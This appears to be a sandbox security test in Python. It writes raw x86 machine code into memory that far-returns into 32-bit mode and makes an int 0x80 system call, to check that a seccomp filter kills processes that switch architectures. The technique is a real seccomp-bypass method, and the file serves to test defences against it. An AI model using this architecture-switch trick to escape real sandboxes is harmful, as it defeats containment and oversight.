# Tries: to leave 64-bit mode by a far return into the 32-bit code segment, and to make a system
# call from there.
# Stopped by: the seccomp filter: another architecture is death.
# Expect: {"status": "failed", "error_type": "SecurityViolationError", "exit_code": 159}
# Bare: yes
import ctypes
import struct

ALL_ACCESS, PRIVATE_ANONYMOUS_32BIT = 7, 0x62
GETPID_32 = 20
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
low = libc.mmap(None, 4096, ALL_ACCESS, PRIVATE_ANONYMOUS_32BIT, -1, 0)
kept, narrow, wide = low + 0x800, low + 0x100, low + 0x200
enter = (b"\x53\x55\x41\x54\x41\x55\x41\x56\x41\x57"     # push what the caller wants back
         + b"\x48\x89\x24\x25" + struct.pack("<I", kept)  # keep rsp
         + b"\x6a\x23\x68" + struct.pack("<I", narrow) + b"\x48\xcb")  # far return, cs = 0x23
in_32_bit = (b"\xb8" + struct.pack("<I", GETPID_32) + b"\xcd\x80"
             + b"\xea" + struct.pack("<IH", wide, 0x33))  # far jump back
leave = (b"\x48\x8b\x24\x25" + struct.pack("<I", kept)
         + b"\x41\x5f\x41\x5e\x41\x5d\x41\x5c\x5d\x5b\xc3")
for at, code in ((low, enter), (narrow, in_32_bit), (wide, leave)):
    ctypes.memmove(at, code, len(code))
print("BREACH: a 32-bit call answered", ctypes.CFUNCTYPE(ctypes.c_int)(low)(), flush=True)
